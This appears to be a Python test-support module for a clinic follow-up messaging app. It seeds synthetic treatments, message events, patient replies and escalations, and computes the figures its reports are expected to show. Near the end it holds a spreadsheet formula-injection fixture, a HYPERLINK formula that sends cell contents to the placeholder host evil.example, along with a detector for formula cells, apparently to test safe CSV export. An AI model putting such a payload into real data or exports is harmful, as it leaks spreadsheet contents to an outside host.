"""A seeded clinic history for report tests, and the expected figures computed from the
seed itself in plain Python (never from the database or the report's SQL)."""

from __future__ import annotations

import csv
import io
import random
import re
from collections import Counter, defaultdict
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, timedelta
from zoneinfo import ZoneInfo

from sqlalchemy import select
from sqlalchemy.orm import Session

from followup.models import (
    Clinic,
    Escalation,
    EscalationPriority,
    InboundMessage,
    MessageEvent,
    MessageStatus,
    ScheduledMessage,
    Treatment,
)
from tests.factories import make_enrollment

TZ = ZoneInfo("America/Edmonton")
SINCE = datetime(2026, 4, 1, tzinfo=TZ)
UNTIL = datetime(2026, 5, 1, tzinfo=TZ)
OUTCOMES = ("delivered", "undelivered", "failed", "expired", "pending")
INTENTS = ("better", "same", "worse", "other")
PRACTITIONERS = ("Dr Adams", "Dr Brown", None)


@dataclass
class Seed:
    events: list[tuple[datetime, str, str]] = field(default_factory=list)  # at, channel, bucket
    sent_steps: list[tuple[int, str]] = field(default_factory=list)  # treatment, step
    replies: list[tuple[int, str, str, str, str | None]] = field(default_factory=list)
    escalations: list[tuple[str, float | None, float | None]] = field(default_factory=list)
    patients: int = 0
    opted_out: int = 0


def seed_history(session: Session, clinic: Clinic, rng: random.Random) -> Seed:
    seed = Seed()
    for n in range(40):
        treated_at = SINCE + timedelta(days=rng.randrange(0, 20), hours=9 + n % 8)
        kind = "chemical-peel" if n % 3 == 0 else "microneedling"
        practitioner = PRACTITIONERS[n % 3]
        result = make_enrollment(
            session, clinic, now=treated_at + timedelta(hours=1), first_name=f"P{n}",
            phone=f"+1403555{n:04d}", treatment=kind, treated_at=treated_at,
        )  # fmt: skip
        result.treatment.practitioner = practitioner
        for message in sorted(result.messages, key=lambda m: m.send_at):
            _play_out(session, seed, rng, message, kind, practitioner)
        seed.patients += 1
        if n % 7 == 0:
            result.patient.opted_out_at = treated_at + timedelta(days=2)
            seed.opted_out += 1
    _seed_escalations(session, clinic, seed, rng)
    session.flush()
    return seed


def _event(
    session: Session, message: ScheduledMessage, status: MessageStatus, at: datetime
) -> None:
    session.add(MessageEvent(message_id=message.id, at=at, to_status=status, actor="seed"))
    message.status = status


def _play_out(
    session: Session,
    seed: Seed,
    rng: random.Random,
    message: ScheduledMessage,
    kind: str,
    practitioner: str | None,
) -> None:
    outcome = rng.choice(OUTCOMES)
    at = message.send_at + timedelta(minutes=rng.randrange(0, 50))
    channel = message.channel.value
    if outcome == "pending":
        return
    if outcome in ("expired", "failed"):
        _event(session, message, MessageStatus(outcome), at)
        seed.events.append((at, channel, outcome))
        return
    message.sent_at = at
    _event(session, message, MessageStatus.SENT, at)
    seed.events.append((at, channel, "sent"))
    done = at + timedelta(minutes=rng.randrange(1, 30))
    _event(session, message, MessageStatus(outcome), done)
    seed.events.append((done, channel, "delivered" if outcome == "delivered" else "failed"))
    seed.sent_steps.append((message.treatment_id or 0, message.step or ""))
    for _ in range(rng.choice((0, 0, 1, 2))):  # replies land well inside the step's window
        intent = rng.choice(INTENTS)
        received = at + timedelta(hours=rng.randrange(1, 20))
        session.add(
            InboundMessage(
                provider_sid=f"SM{rng.getrandbits(64):016x}", clinic_id=message.clinic_id,
                patient_id=message.patient_id, treatment_id=message.treatment_id,
                channel=message.channel, from_address="+14035550000", to_address="+14035550199",
                body=intent, intent=intent, received_at=received,
            )
        )  # fmt: skip
        seed.replies.append(
            (message.treatment_id or 0, message.step or "", intent, kind, practitioner)
        )


def _seed_escalations(session: Session, clinic: Clinic, seed: Seed, rng: random.Random) -> None:
    patient_id = session.scalars(select(ScheduledMessage.patient_id)).first()
    assert patient_id is not None
    for n in range(25):
        priority = rng.choice(list(EscalationPriority)).value
        opened = SINCE + timedelta(days=rng.randrange(0, 25), minutes=rng.randrange(0, 600))
        ack = rng.choice((None, rng.randrange(30, 7200)))
        resolve = None if ack is None or n % 4 == 0 else ack + rng.randrange(60, 90000)
        session.add(
            Escalation(
                clinic_id=clinic.id, patient_id=patient_id, priority=priority, reason="seed",
                opened_at=opened,
                acknowledged_at=opened + timedelta(seconds=ack) if ack is not None else None,
                resolved_at=opened + timedelta(seconds=resolve) if resolve is not None else None,
            )
        )  # fmt: skip
        seed.escalations.append((priority, ack, resolve))


def expected_day_counts(seed: Seed) -> dict[tuple[date, str], Counter[str]]:
    days: dict[tuple[date, str], Counter[str]] = defaultdict(Counter)
    for at, channel, bucket in seed.events:
        if SINCE <= at < UNTIL:
            days[(at.astimezone(TZ).date(), channel)][bucket] += 1
    return days


def expected_reply_rates(seed: Seed) -> dict[str, tuple[int, int]]:
    sent: Counter[str] = Counter(step for _, step in set(seed.sent_steps))
    replied = {(t, s) for t, s, *_ in seed.replies}
    got: Counter[str] = Counter(step for _, step in replied)
    return {step: (sent[step], got[step]) for step in sent}


def expected_answers(seed: Seed, by: int) -> dict[str, Counter[str]]:
    """by: 1 = step, 3 = treatment kind, 4 = practitioner (indexes into seed.replies)."""
    groups: dict[str, Counter[str]] = defaultdict(Counter)
    for reply in seed.replies:
        if reply[2] != "other":
            groups[str(reply[by] or "(not recorded)")][reply[2]] += 1
    return groups


def _utc(value: datetime) -> datetime:
    return value.astimezone(UTC)


# A practitioner's name as free text can hold anything, a spreadsheet formula included.
FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Dr Adams")'
_FORMULA_START = re.compile(r"^[=+\-@\t\r]")


def name_practitioner(session: Session, old: str, new: str) -> None:
    for treatment in session.scalars(select(Treatment).where(Treatment.practitioner == old)):
        treatment.practitioner = new


def formula_cells(text: str) -> list[str]:
    """Cells of a CSV document that a spreadsheet would run as a formula."""
    return [
        cell for row in csv.reader(io.StringIO(text)) for cell in row if _FORMULA_START.match(cell)
    ]
